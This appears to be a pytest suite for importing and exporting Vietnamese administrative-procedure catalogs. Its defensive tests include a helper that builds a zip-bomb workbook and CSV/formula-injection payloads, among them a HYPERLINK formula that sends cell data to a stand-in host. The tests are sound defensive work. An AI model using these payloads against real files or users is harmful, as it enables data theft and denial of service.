"""Catalog files as offices get them: the national database's workbook, CSVs in every encoding, merging imports."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from db.errors import InvalidInput, NotFound

SAMPLES = Path(__file__).parents[1] / "data" / "catalog"
KHAI_SINH, CHUNG_THUC, GIAM_HO, QUY_HOACH = ("1.001193.000.00.00.H10", "2.000815.000.00.00.H38",
                                             "1.003583.000.00.00.H38", "1.009994.000.00.00.H38")
CSVS = ["quoc-gia-utf8-bom.csv", "quoc-gia-utf16.csv", "quoc-gia-cp1258.csv", "quoc-gia-champhay.csv"]


@pytest.fixture
def manager(demo_store):
    m = demo_store.login("quanly", "quanly123")
    m.setup.save_procedure(code=KHAI_SINH, name="Đăng ký khai sinh", service="B", processing_days=1, fee="Miễn phí",
                     documents=[{"name": "Tờ khai", "form": "original", "quantity": 1}], agency="UBND phường")
    return m


def test_the_national_workbook_imports_with_every_field(manager):
    path = SAMPLES / "quoc-gia.xlsx"
    preview = manager.setup.preview_catalog(path)
    assert preview.ok, preview.problems
    assert {c.code: c.kind for c in preview.changes} == {
        KHAI_SINH: "changed", CHUNG_THUC: "added", GIAM_HO: "added", QUY_HOACH: "added"}
    # the columns no field takes are named, not dropped without a word
    assert set(preview.ignored_columns) == {"Cấp thực hiện", "Mô tả", "Mẫu đơn, tờ khai"}
    assert manager.setup.import_catalog(path) == 4

    p = manager.setup.procedure(CHUNG_THUC)
    assert (p.service_name, p.processing_days, p.online_level, p.agency) == (
        "Chứng thực", 2, "Một phần", "Ủy ban nhân dân cấp xã")
    assert p.fee.startswith("Lệ phí: 2.000 đồng/trang")
    assert [(d["form"], d["quantity"]) for d in p.documents] == [("original", 1), ("copy", 1)]
    g = manager.setup.procedure(GIAM_HO)
    # the direct way's time limit, not the postal one; "Hộ tịch" is the office's "Tư pháp - Hộ tịch"
    assert (g.processing_days, g.service_name) == (3, "Tư pháp - Hộ tịch")
    assert [(d["name"], d["form"]) for d in g.documents][1:] == [
        ("Văn bản cử người giám hộ", "original"), ("Văn bản cử người giám hộ", "copy")]
    assert manager.setup.procedure(QUY_HOACH).processing_days == 0.5  # "04 giờ": half a working day
    k = manager.setup.procedure(KHAI_SINH)
    assert (k.processing_days, k.fee) == (0.5, "Miễn lệ phí đăng ký khai sinh đúng hạn")  # "Trong ngày"
    assert [d["name"] for d in k.documents][1] == "Giấy chứng sinh"


def test_the_preview_says_what_changes_per_field_and_writes_nothing(manager):
    before = manager.setup.procedure(KHAI_SINH)
    preview = manager.setup.preview_catalog(SAMPLES / "quoc-gia.xlsx")
    change = next(c for c in preview.changes if c.code == KHAI_SINH)
    labels = {label for label, _, _ in change.fields}
    assert {"Lệ phí", "Thời hạn (ngày)", "Cơ quan thực hiện", "Thành phần hồ sơ"} <= labels
    assert ("Lệ phí", before.fee, "Miễn lệ phí đăng ký khai sinh đúng hạn") in change.fields
    assert manager.setup.procedure(KHAI_SINH) == before
    with pytest.raises(NotFound):
        manager.setup.procedure(CHUNG_THUC)


def test_a_narrower_file_changes_nothing_it_does_not_hold(manager, tmp_path):
    manager.setup.import_catalog(SAMPLES / "quoc-gia.xlsx")
    full = {code: manager.setup.procedure(code) for code in (KHAI_SINH, CHUNG_THUC, GIAM_HO)}
    narrow = tmp_path / "ten.csv"
    narrow.write_text("Mã TTHC,Tên TTHC\n" f"{KHAI_SINH},Đăng ký khai sinh\n{GIAM_HO},Đăng ký giám hộ (sửa)\n",
                      "utf-8")
    preview = manager.setup.preview_catalog(narrow)
    assert [(c.code, c.kind, c.fields) for c in preview.changes] == [
        (KHAI_SINH, "unchanged", ()), (GIAM_HO, "changed", (("Tên", "Đăng ký giám hộ", "Đăng ký giám hộ (sửa)"),))]
    assert manager.setup.import_catalog(narrow) == 1
    after = manager.setup.procedure(GIAM_HO)
    assert after.name == "Đăng ký giám hộ (sửa)"
    assert (after.fee, after.documents, after.agency, after.online_level, after.processing_days,
            after.service_id) == (full[GIAM_HO].fee, full[GIAM_HO].documents, full[GIAM_HO].agency,
                                  full[GIAM_HO].online_level, full[GIAM_HO].processing_days, full[GIAM_HO].service_id)
    assert manager.setup.procedure(KHAI_SINH) == full[KHAI_SINH] and manager.setup.procedure(CHUNG_THUC) == full[CHUNG_THUC]


@pytest.mark.parametrize("name", CSVS)
def test_csv_in_any_encoding_and_separator_reads_the_same(manager, name):
    preview = manager.setup.preview_catalog(SAMPLES / name)
    assert preview.ok, preview.problems
    assert [r["name"] for r in preview.rows][0] == "Đăng ký khai sinh"
    assert preview.rows == manager.setup.preview_catalog(SAMPLES / "quoc-gia-utf8-bom.csv").rows
    assert preview.ignored_columns == ("Cấp thực hiện",)


def test_a_field_no_name_matches_is_asked_for_then_mapped(manager, tmp_path):
    path = tmp_path / "la.csv"
    path.write_text("Mã TTHC;Tên TTHC;Lĩnh vực;Thời hạn giải quyết\n9.9;Thủ tục lạ;Quốc tịch;5 ngày làm việc\n",
                    "utf-8")
    preview = manager.setup.preview_catalog(path)
    assert preview.unknown_fields == ("Quốc tịch",) and not preview.ok
    assert manager.setup.import_catalog(path, field_map={"Quốc tịch": "B"}) == 1
    assert manager.setup.procedure("9.9").service_name == "Tư pháp - Hộ tịch"


@pytest.mark.parametrize("content, message", [
    (b"PK\x03\x04 not really a workbook", "tệp Excel bị hỏng"),
])
def test_a_corrupt_workbook_is_one_sentence(manager, tmp_path, content, message):
    path = tmp_path / "hong.xlsx"
    path.write_bytes(content)
    with pytest.raises(InvalidInput, match=message):
        manager.setup.preview_catalog(path)


@pytest.mark.parametrize("days", ["inf", "nan", "-3", "1e400", "ba ngày", "400 ngày"])
def test_impossible_time_limits_are_row_errors(manager, tmp_path, days):
    path = tmp_path / "ngay.csv"
    path.write_text(f"ma,ten,linh_vuc,so_ngay\n1.1,Thủ tục,B,{days}\n", "utf-8")
    preview = manager.setup.preview_catalog(path)
    assert [(p.line, p.reason) for p in preview.problems] == [(2, f"số ngày giải quyết không hợp lệ: “{days}”")]


def test_a_huge_cell_is_a_row_error_not_a_crash(manager, tmp_path):
    path = tmp_path / "dai.csv"
    path.write_text("ma,ten,linh_vuc,so_ngay\n1.1,Thủ tục," + "B" * 200_000 + ",3\n1.2,Khác,B,3\n", "utf-8")
    preview = manager.setup.preview_catalog(path)
    assert [(p.line, p.reason) for p in preview.problems] == [(2, "ô “linh_vuc” quá dài (hơn 4.000 ký tự)")]


def test_row_errors_are_a_page_then_a_count(manager, tmp_path):
    path = tmp_path / "nhieu.csv"
    path.write_text("ma,ten,linh_vuc,so_ngay\n" + "".join(f"{i},T{i},Z,3\n" for i in range(300)), "utf-8")
    preview = manager.setup.preview_catalog(path)
    assert len(preview.problems) == 50 and preview.problem_count == 300


def bomb(path: Path, megabytes: int) -> Path:
    """An .xlsx whose sheet unpacks to `megabytes` MB of XML from a few hundred kB."""
    book = openpyxl.Workbook()
    book.active.append(["ma", "ten", "linh_vuc", "so_ngay"])
    book.save(path)
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 1000
    with zipfile.ZipFile(path) as source:
        parts = {i.filename: source.read(i) for i in source.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for name, data in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                out.writestr(name, data)
        with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(megabytes * 2**20 // len(row)):
                sheet.write(row)
            sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.mark.slow
def test_a_zip_bomb_is_refused_before_it_is_unpacked(manager, tmp_path):
    path = bomb(tmp_path / "bom.xlsx", 200)
    assert path.stat().st_size < 3 * 2**20
    tracemalloc.start()
    try:
        with pytest.raises(InvalidInput) as refused:
            manager.setup.preview_catalog(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(refused.value) == "Tệp bom.xlsx giải nén ra 200 MB, quá giới hạn 40 MB; chưa đọc gì."
    assert peak < 20 * 2**20


def test_too_many_rows_are_refused_without_listing_them(manager, tmp_path):
    path = tmp_path / "dai.csv"
    path.write_text("ma,ten,linh_vuc,so_ngay\n" + "x,y,Z,3\n" * 60_000, "utf-8")
    with pytest.raises(InvalidInput, match="hơn 50.000 dòng"):
        manager.setup.preview_catalog(path)


def test_an_old_xls_or_a_binary_file_is_one_sentence(manager, tmp_path):
    (tmp_path / "cu.xls").write_bytes(b"\xd0\xcf\x11\xe0" + bytes(100))
    with pytest.raises(InvalidInput, match="xlsx"):
        manager.setup.preview_catalog(tmp_path / "cu.xls")
    (tmp_path / "anh.csv").write_bytes(bytes(range(256)) * 10)
    with pytest.raises(InvalidInput, match="Không đọc được tệp anh.csv"):
        manager.setup.preview_catalog(tmp_path / "anh.csv")


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_catalog_exports_never_write_a_formula(manager, tmp_path, lead):
    text = f'{lead}HYPERLINK("http://x.invalid/?id="&B2,"Xem")'
    manager.setup.save_procedure(code="9.1", name=text, service="B", processing_days=1, fee=f"{lead}1+1", agency=text)
    manager.setup.export_catalog(tmp_path / "ra.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "ra.xlsx").active
    row = next(r for r in sheet.iter_rows() if r[0].value == "9.1")
    assert [(c.value, c.data_type) for c in (row[1], row[4], row[7])] == [(text, "s"), (f"{lead}1+1", "s"), (text, "s")]
    manager.setup.export_catalog(tmp_path / "ra.csv")
    line = next(r for r in csv.reader(io.StringIO((tmp_path / "ra.csv").read_text("utf-8-sig"))) if r[0] == "9.1")
    assert (line[1], line[4], line[7]) == ("'" + text, f"'{lead}1+1", "'" + text)
    # and the file comes back as it was written
    for name in ("ra.xlsx", "ra.csv"):
        row = next(r for r in manager.setup.preview_catalog(tmp_path / name).rows if r["code"] == "9.1")
        assert (row["name"], row["fee"]) == (text, f"{lead}1+1")


@pytest.mark.parametrize("text, days", [("7", 7), ("2,5", 2.5), ("03 ngày làm việc", 3), ("Trong ngày", 0.5),
                                        ("Không quá 05 ngày làm việc kể từ ngày nhận đủ hồ sơ", 5),
                                        ("04 giờ", 0.5), ("8 giờ làm việc", 1), ("24 giờ", 1), ("2 tuần", 10)])
def test_time_limits_as_the_national_database_writes_them(text, days):
    from db.catalog_read import parse_days

    assert parse_days(text) == days


def test_a_file_of_codes_and_fees_updates_the_fees_only(manager, tmp_path):
    manager.setup.import_catalog(SAMPLES / "quoc-gia.xlsx")
    before = manager.setup.procedure(GIAM_HO)
    fees = tmp_path / "le-phi.csv"
    fees.write_text(f"Mã TTHC;Phí, lệ phí\n{GIAM_HO};5.000 đồng\n9.9.9;1.000 đồng\n", "utf-8")
    preview = manager.setup.preview_catalog(fees)
    assert [(p.line, p.reason) for p in preview.problems] == [(3, "thủ tục mới 9.9.9 thiếu tên")]
    fees.write_text(f"Mã TTHC;Phí, lệ phí\n{GIAM_HO};5.000 đồng\n", "utf-8")
    assert manager.setup.import_catalog(fees) == 1
    after = manager.setup.procedure(GIAM_HO)
    assert after.fee == "5.000 đồng" and after == replace(before, fee="5.000 đồng")
